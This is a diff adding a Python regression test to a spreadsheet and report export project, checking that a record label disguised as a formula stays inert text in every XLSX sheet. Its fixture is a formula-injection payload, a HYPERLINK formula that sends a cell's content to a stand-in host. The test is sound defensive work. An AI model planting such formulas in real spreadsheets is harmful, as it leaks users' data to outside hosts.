@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import dataclasses
 import io
+import zipfile
 from pathlib import Path
 
 import docx
@@ -92,3 +94,32 @@ def test_libreoffice_opens_the_workbook_and_the_reports(
         pdf = convert(soffice, source, "pdf", tmp_path / "lo-profile")
         assert pdf.read_bytes().startswith(b"%PDF-"), name
         assert pdf.stat().st_size > 5_000, name
+
+
+FORMULA = '=HYPERLINK("http://exemple.test/?fuite="&A1,"Voir")'
+
+
+def test_text_that_looks_like_a_formula_stays_text_on_every_sheet(library: Library) -> None:
+    """Issue 20, finding 6: a dossier renamed as a formula, with a derogation, was a live
+    formula in the « Dérogations » sheet."""
+    renamed = [
+        dataclasses.replace(r, label=FORMULA, organisation=f"+{REGION}")
+        if r.label == "Nettoyage"
+        else r
+        for r in records(library)
+    ]
+    content = spaser_xlsx(indicators(renamed, f"+{REGION}", 2027, library), library)
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets and not any(b"<f>" in package.read(name) for name in sheets)
+    workbook = load_workbook(io.BytesIO(content))
+    quoted = [
+        cell
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and cell.value.startswith("=")
+    ]
+    assert quoted, "the title is in the workbook"
+    assert {cell.data_type for cell in quoted} == {"s"}
+    assert FORMULA in [cell.value for cell in workbook["Dérogations"]["A"]]
